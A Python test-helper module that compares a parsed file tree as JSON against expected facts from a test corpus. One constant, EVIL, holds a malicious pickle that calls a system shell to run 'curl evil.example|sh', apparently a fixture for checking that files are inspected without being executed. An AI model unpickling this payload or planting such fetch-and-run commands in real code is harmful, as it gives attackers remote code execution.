"""Compare a tree as JSON with what a file's own library made of it (`tests/pik/corpus/expected.json`)."""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from pathlib import Path
from typing import Any

CORPUS = Path(__file__).resolve().parent.parent / "corpus"
FILES = CORPUS / "files"

#: The file of the pages that would run a command.
EVIL = b"cposix\nsystem\n(S'curl evil.example|sh'\ntR."

Facts = dict[str, Any]


def expected() -> dict[str, dict[str, list[tuple[str, Facts]]]]:
    """Return file → member → what is said at each path."""
    found = json.loads((CORPUS / "expected.json").read_text(encoding="utf-8"))
    assert isinstance(found, dict)
    return found


def flat(tree: Facts) -> dict[str, Facts]:
    """Return the nodes of a tree by their paths; what is there twice is found by both."""
    found: dict[str, Facts] = {}
    again: list[tuple[str, str]] = []
    todo = [("", tree)]
    while todo:
        path, node = todo.pop()
        if "ref" in node:
            again.append((path, _spelled(str(node["ref"]))))
            continue
        found[path] = node
        todo += [(path + child["label"], child) for child in node.get("children", [])]
    for path, other in again:
        below = [
            (name, node) for name, node in found.items() if name == other or name.startswith((other + ".", other + "["))
        ]
        found.update({path + name[len(other) :]: node for name, node in below})
    return found


def _spelled(path: str) -> str:
    """Spell a reference as the labels are."""
    return path if not path or path[0] in ".[(" else "." + path


def differences(claims: list[tuple[str, Facts]], tree: Facts) -> Iterator[str]:
    """Yield a sentence for each thing that the tree has otherwise, or does not have."""
    nodes = flat(tree)
    for path, facts in claims:
        node = nodes.get(path)
        if node is None:
            if facts:
                yield f"{path}: not there, {facts}"
            continue
        for name, wanted in facts.items():
            found = _found(name, node)
            if not _same(name, wanted, found):
                yield f"{path}: {name} is {wanted!r}, and the tree says {found!r}"


def _found(name: str, node: Facts) -> Any:
    """Return what the tree says about a thing."""
    if name in ("type", "module", "count"):
        return node.get(name)
    if name in ("class", "function", "value"):
        return node.get("text")
    if name == "first" and node["kind"] in ("text", "bytes"):
        return node.get("text")
    return node.get("facts", {}).get(name)


def _same(name: str, wanted: Any, found: Any) -> bool:
    """Tell whether the tree says what is so."""
    if (name == "count" and wanted == 0) or (name == "module" and found is None):
        return True  # what is plain, or empty, is shown by its type alone
    if name in ("min", "max") and found is None:
        return True  # it is told where it is cheap
    if isinstance(wanted, list) and name == "value":
        return any(_same(name, one, found) for one in wanted)
    if isinstance(wanted, str):
        return isinstance(found, str) and wanted in found
    if isinstance(wanted, list) and isinstance(found, list) and name == "first":
        return all(map(_close, wanted, found)) and len(found) >= len(wanted)
    return bool(found == wanted) or _close(wanted, found)


def _close(one: Any, other: Any) -> bool:
    """Tell whether two items are equal, numbers of 32 bits as far as these go."""
    if one is None or one == "nan":
        return other is None or other in ("<NA>", "NaT", "nan")
    if isinstance(one, float) and isinstance(other, float):
        return math.isclose(one, other, rel_tol=1e-6)
    return bool(one == other)
